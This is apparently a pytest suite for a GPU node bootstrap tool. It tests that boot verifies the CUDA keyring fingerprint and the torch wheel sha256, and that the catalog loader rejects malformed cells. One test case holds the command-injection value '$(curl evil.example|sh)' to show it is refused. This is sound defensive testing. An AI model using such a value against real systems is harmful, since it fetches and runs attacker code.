"""Boot downloads checked where the source publishes a check: NVIDIA's CUDA keyring by its key's fingerprint, the
torch wheel by its sha256; the rest are named as unverified in the plan.

The node script runs for real. The keyring tests use the real `gpg` and `dpkg-deb` on a keyring package built here
(a key made for the test, so "NVIDIA's" fingerprint is whatever the spec says); `curl`, `dpkg`, `apt-*`, `systemctl`
and `nvidia-smi` are fakes that record what they were asked. The pip tests run the real pip against a local index.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from blueprints import bootstrap as b
from blueprints.catalog import load_catalog
from tests.test_bootstrap import files, spec

NVIDIA_FPR = "EB693B3035CD5710E231E123A4B469963BF863CC"
REAL_TOOLS = shutil.which("gpg") and shutil.which("dpkg-deb")
RECORD = '#!/bin/sh\necho "$(basename "$0") $*" >>"$LOG"\n'
FAKES = {
    "nvidia-smi": '#!/bin/sh\ncase "$*" in *driver_version*) echo 550.127.08 ;; *) echo "GPU 0: NVIDIA A100" ;; esac\n',
    "systemctl": RECORD + '[ "$1" = is-active ] && exit 3; exit 0\n',
    "apt-cache": "#!/bin/sh\nexit 100\n",
    "apt-get": RECORD,
    "dpkg": RECORD,
    # curl -fsSLo FILE URL: the keyring package built by the test stands in for NVIDIA's.
    "curl": RECORD + 'cp "$DEB" "$2"\n',
}


def make_key(gnupg: Path, name: str) -> str:
    """A fresh signing key in ``gnupg``; its fingerprint."""
    env = {**os.environ, "GNUPGHOME": str(gnupg)}
    subprocess.run(
        [
            "gpg",
            "--batch",
            "--passphrase",
            "",
            "--quick-gen-key",
            f"{name} <{name}@example.com>",
            "ed25519",
            "sign",
            "never",
        ],
        env=env,
        check=True,
        capture_output=True,
    )
    out = subprocess.run(
        ["gpg", "--with-colons", "--list-keys", name], env=env, check=True, capture_output=True, text=True
    ).stdout
    return next(line.split(":")[9] for line in out.splitlines() if line.startswith("fpr:"))


def keyring_deb(tmp: Path, *names: str) -> tuple[Path, list[str]]:
    """A cuda-keyring-shaped .deb whose /usr/share/keyrings/cuda-archive-keyring.gpg
    holds fresh keys named ``names``."""
    gnupg = tmp / "gnupg-build"
    gnupg.mkdir(mode=0o700)
    fprs = [make_key(gnupg, name) for name in names]
    root = tmp / "pkg"
    (root / "DEBIAN").mkdir(parents=True)
    (root / "DEBIAN" / "control").write_text(
        "Package: cuda-keyring\nVersion: 1.1-1\nArchitecture: "
        "all\nMaintainer: test <t@example.com>\nDescription: test\n"
    )
    (root / "usr/share/keyrings").mkdir(parents=True)
    exported = subprocess.run(
        ["gpg", "--export", *fprs], env={**os.environ, "GNUPGHOME": str(gnupg)}, check=True, capture_output=True
    ).stdout
    (root / "usr/share/keyrings/cuda-archive-keyring.gpg").write_bytes(exported)
    deb = tmp / "cuda-keyring_1.1-1_all.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", str(root), str(deb)], check=True, capture_output=True)
    return deb, fprs


def run_ready(
    tmp: Path, deb: Path, fingerprint: str
) -> tuple[subprocess.CompletedProcess[str], list[str], dict[str, str]]:
    """``aitrain-node ready`` on an NVSwitch node whose keyring check expects ``fingerprint``: result, calls, status."""
    gpu = replace(
        spec().gpu, cuda_repo_key=fingerprint, pytorch_version=None, pytorch_index_url=None, pytorch_sha256=()
    )
    text = files(yaml.safe_load(b.render_user_data(spec(gpu=gpu))))[b.NODE_SCRIPT_PATH]
    for path in ("/tmp/aitrain-keyring", b.ENV_DIR):
        text = text.replace(path, str(tmp / path.strip("/").replace("/", "_")))
    (tmp / "node").write_text(text)
    bin_dir = tmp / "bin"
    bin_dir.mkdir()
    for name, body in FAKES.items():
        (bin_dir / name).write_text(body)
        (bin_dir / name).chmod(0o755)
    gnupg = tmp / "gnupg-node"
    gnupg.mkdir(mode=0o700)
    log = tmp / "log"
    env = {
        "PATH": f"{bin_dir}:{os.environ['PATH']}",
        "LOG": str(log),
        "DEB": str(deb),
        "GNUPGHOME": str(gnupg),
        "HOME": str(tmp),
    }
    run = subprocess.run(["sh", str(tmp / "node"), "ready"], env=env, capture_output=True, text=True, timeout=60)
    status_path = tmp / "etc_aitrain" / "status"
    status = dict(line.split("=", 1) for line in status_path.read_text().splitlines()) if status_path.exists() else {}
    return run, log.read_text().splitlines() if log.exists() else [], status


needs_tools = pytest.mark.skipif(not REAL_TOOLS, reason="needs gpg and dpkg-deb (Debian/Ubuntu)")


@needs_tools
def test_a_keyring_with_the_published_key_is_installed_then_fabric_manager(tmp_path):
    deb, (fpr,) = keyring_deb(tmp_path, "cudatools")
    run, calls, status = run_ready(tmp_path, deb, fpr)
    assert run.returncode == 0, run.stderr
    installs = [c for c in calls if c.startswith(("dpkg", "apt-get"))]
    assert installs[0] == f"dpkg -i {tmp_path}/tmp_aitrain-keyring.deb"
    assert installs[1:] == ["apt-get update -q", "apt-get install -y nvidia-fabricmanager-550=550.127.08-1"]
    assert status["state"] == "ready" and status["driver"] == "550.127.08"


@needs_tools
def test_a_keyring_with_another_key_stops_the_boot_before_dpkg(tmp_path):
    deb, (other,) = keyring_deb(tmp_path, "impostor")
    run, calls, status = run_ready(tmp_path, deb, NVIDIA_FPR)
    assert run.returncode == 1
    assert not [
        c for c in calls if c.startswith(("dpkg", "apt-get", "systemctl enable"))
    ]  # nothing installed or started
    assert status["state"] == "failed"
    assert status["detail"] == f"CUDA keyring has key(s) {other}, not NVIDIA's {NVIDIA_FPR}: not installed"


@needs_tools
def test_a_keyring_that_adds_a_second_key_to_nvidias_is_refused_too(tmp_path):
    deb, fprs = keyring_deb(tmp_path, "cudatools", "extra")
    run, calls, status = run_ready(tmp_path, deb, fprs[0])
    assert run.returncode == 1 and status["state"] == "failed"
    assert (
        status["detail"] == f"CUDA keyring has key(s) {' '.join(sorted(fprs))}, not NVIDIA's {fprs[0]}: not installed"
    )
    assert not [c for c in calls if c.startswith("dpkg")]


@needs_tools
def test_a_package_without_any_key_is_refused(tmp_path):
    deb, _ = keyring_deb(tmp_path)  # no key exported: an empty keyring file
    run, calls, status = run_ready(tmp_path, deb, NVIDIA_FPR)
    assert run.returncode == 1
    assert status["detail"] == f"CUDA keyring has key(s) none, not NVIDIA's {NVIDIA_FPR}: not installed"


def test_the_catalog_carries_nvidias_published_fingerprint_and_the_node_script_checks_it():
    catalog = load_catalog()
    software = catalog.gpu_software["gn7e"]
    assert software.cuda_repo_key_fingerprint == NVIDIA_FPR
    assert (
        "NVIDIA/cuda-repo-management" in software.source
        and "EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC" in software.source
    )
    node = files(yaml.safe_load(b.render_user_data(spec())))[b.NODE_SCRIPT_PATH]
    assert f"F={NVIDIA_FPR}\n" in node and '[ "$f" = "$F" ] ||' in node


def test_a_fabric_manager_node_needs_a_fingerprint_and_a_bad_one_is_refused():
    with pytest.raises(ValueError, match="fabric_manager needs cuda_repo_key"):
        b.render_user_data(spec(gpu=replace(spec().gpu, cuda_repo_key=None)))
    with pytest.raises(ValueError, match=r"GpuSoftware.cuda_repo_key: 'EB69 3B30' is not allowed"):
        b.render_user_data(spec(gpu=replace(spec().gpu, cuda_repo_key="EB69 3B30")))
    with pytest.raises(ValueError, match="GpuSoftware.pytorch_sha256"):
        b.render_user_data(spec(gpu=replace(spec().gpu, pytorch_sha256=("abc",))))


# --- the torch wheel, with the real pip ---------------------------------------------------------------------------


def wheel(directory: Path, name: str, version: str, requires: tuple[str, ...] = ()) -> Path:
    """A minimal pure-Python wheel for ``name`` (the import package ``name`` with one module)."""
    dist = f"{name.replace('-', '_')}-{version}"
    path = directory / f"{dist}-py3-none-any.whl"
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + "".join(
        f"Requires-Dist: {r}\n" for r in requires
    )
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(f"{name.replace('-', '_')}/__init__.py", "")
        zf.writestr(f"{dist}.dist-info/METADATA", meta)
        zf.writestr(
            f"{dist}.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        zf.writestr(f"{dist}.dist-info/RECORD", "")
    return path


def local_index(tmp: Path) -> tuple[str, str]:
    """A PEP 503 index under tmp with torch 2.5.1+cu124 (needing
    aitrain-fakedep) and that dependency; (URL, torch's sha256)."""
    simple = tmp / "simple"
    digest = ""
    for name, version, requires in (("torch", "2.5.1+cu124", ("aitrain-fakedep",)), ("aitrain-fakedep", "1.0", ())):
        folder = simple / name
        folder.mkdir(parents=True)
        whl = wheel(folder, name, version, requires)
        sha = hashlib.sha256(whl.read_bytes()).hexdigest()
        digest = digest or sha
        (folder / "index.html").write_text(f'<a href="{whl.name}#sha256={sha}">{whl.name}</a>\n')
    return simple.as_uri() + "/", digest


def run_pytorch(tmp: Path, index: str, digests: tuple[str, ...]) -> tuple[subprocess.CompletedProcess[str], set[str]]:
    """``aitrain-node pytorch`` with the venv under tmp and the real python3: result and the packages installed."""
    gpu = replace(spec().gpu, pytorch_index_url=index, pytorch_sha256=digests)
    text = files(yaml.safe_load(b.render_user_data(spec(gpu=gpu))))[b.NODE_SCRIPT_PATH]
    venv = tmp / "venv"
    (tmp / "node").write_text(text.replace(b.TORCH_VENV, str(venv)))
    bin_dir = tmp / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "python3").write_text(
        f'#!/bin/sh\nexec {sys.executable} "$@"\n'
    )  # the venv is made by this Python, offline
    (bin_dir / "python3").chmod(0o755)
    env = {
        "PATH": f"{bin_dir}:{os.environ['PATH']}",
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        "PIP_NO_CACHE_DIR": "1",
        "HOME": str(tmp),
    }
    run = subprocess.run(["sh", str(tmp / "node"), "pytorch"], env=env, capture_output=True, text=True, timeout=240)
    site = list(venv.glob("lib/python*/site-packages"))
    installed = {p.name.split("-")[0] for p in site[0].glob("*.dist-info")} if site else set()
    return run, installed - {"pip", "setuptools"}


def test_pip_installs_torch_only_from_a_wheel_with_a_listed_sha256_then_its_dependencies(tmp_path):
    index, digest = local_index(tmp_path)
    run, installed = run_pytorch(tmp_path, index, ("0" * 64, digest))
    assert run.returncode == 0, run.stderr
    assert installed == {"torch", "aitrain_fakedep"}


def test_pip_refuses_a_torch_wheel_whose_sha256_is_not_listed_and_installs_nothing(tmp_path):
    index, digest = local_index(tmp_path)
    run, installed = run_pytorch(tmp_path, index, ("0" * 64,))
    assert run.returncode != 0
    assert "THESE PACKAGES DO NOT MATCH THE HASHES" in run.stderr
    assert installed == set()


def test_the_catalog_lists_the_cited_torch_wheel_digests_one_per_python():
    software = load_catalog().gpu_software["gn7e"]
    assert (software.pytorch_version, software.pytorch_index_url) == ("2.5.1", "https://download.pytorch.org/whl/cu124")
    # cp310 is the one two sources agree on byte for byte (PyTorch's index via the uv issue, and nixpkgs in base64).
    assert software.pytorch_wheel_sha256[1] == "9dde30f399ca22137455cca4d47140dfb7f4176e2d16a9729fc044eebfadb13a"
    assert len(software.pytorch_wheel_sha256) == 5 and "astral-sh/uv/issues/10843" in software.source


def test_the_plan_names_every_unverified_boot_download():
    gpu = spec().gpu
    lines = dict(b.boot_downloads(gpu, b.Fabric("erdma")))
    unverified = sorted(what for what, check in lines.items() if check.startswith("UNVERIFIED"))
    assert unverified == [
        "Alibaba's auto_install_v4.0.sh (from the metadata source-address mirror) and what it fetches",
        "PyTorch's dependencies (nvidia-*, triton, sympy, ...)",
        "eRDMA env_setup.sh and installer (http://mirrors.cloud.aliyuncs.com/erdma/)",
    ]
    assert (
        lines["PyTorch 2.5.1 wheel (https://download.pytorch.org/whl/cu124)"]
        == "pip --require-hashes against 1 sha256 digests from the catalog"
    )
    no_hash = dict(b.boot_downloads(replace(gpu, pytorch_sha256=()), b.Fabric("tcp")))
    assert no_hash["PyTorch 2.5.1 wheel (https://download.pytorch.org/whl/cu124)"].startswith(
        "UNVERIFIED: the catalog has no sha256"
    )
    assert not any("eRDMA" in what for what in no_hash)


# --- the catalog columns behind them ---------------------------------------------------------------------------------


@pytest.fixture
def data(tmp_path: Path) -> Path:
    from tests.catalog.test_loader_checks import CATALOG_DIR

    target = tmp_path / "data"
    shutil.copytree(CATALOG_DIR, target)
    return target


@pytest.mark.parametrize(
    ("cells", "column", "problem"),
    [
        (
            {"pytorch_wheel_sha256": "9DDE30F3"},
            "pytorch_wheel_sha256",
            "must be sha256 digests (64 lower-case hex digits) separated "
            "by spaces, or empty (not checked) (got '9DDE30F3')",
        ),
        (
            {"cuda_repo_key_fingerprint": "EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC"},
            "cuda_repo_key_fingerprint",
            "must be an OpenPGP fingerprint of 40 upper-case hex digits without spaces, or empty (got 'EB69 3B30 35CD "
            "5710 E231 E123 A4B4 6996 3BF8 63CC')",
        ),
        (
            {"cuda_repo_key_fingerprint": "$(curl evil.example|sh)"},
            "cuda_repo_key_fingerprint",
            "must be an OpenPGP fingerprint of 40 upper-case hex digits "
            "without spaces, or empty (got '$(curl evil.example|sh)')",
        ),
        (
            {"cuda_repo_key_fingerprint": ""},
            "cuda_repo_key_fingerprint",
            "is required with fabric_manager_min_gpus (nodes check NVIDIA's CUDA keyring against it)",
        ),
        (
            {"pytorch_version": "", "pytorch_index_url": ""},
            "pytorch_wheel_sha256",
            "needs pytorch_version (the wheels these digests check)",
        ),
    ],
)
def test_the_loader_takes_only_digests_and_fingerprints_and_names_the_cell(data, cells, column, problem):
    from tests.catalog.test_loader_checks import edit, message

    line = edit(data, "gpu_software.csv", 0, **cells)  # gn7e: 8-GPU Fabric Manager row
    assert message(data) == f"gpu_software.csv line {line}, column {column!r}: {problem}"


def test_a_row_without_fabric_manager_may_leave_the_fingerprint_empty(data):
    from tests.catalog.test_loader_checks import edit, index_of

    edit(
        data,
        "gpu_software.csv",
        index_of(data, "gpu_software.csv", "family", "gn7i"),
        cuda_repo_key_fingerprint="",
        pytorch_wheel_sha256="",
    )
    software = load_catalog(data).gpu_software["gn7i"]
    assert (software.cuda_repo_key_fingerprint, software.pytorch_wheel_sha256) == (None, ())
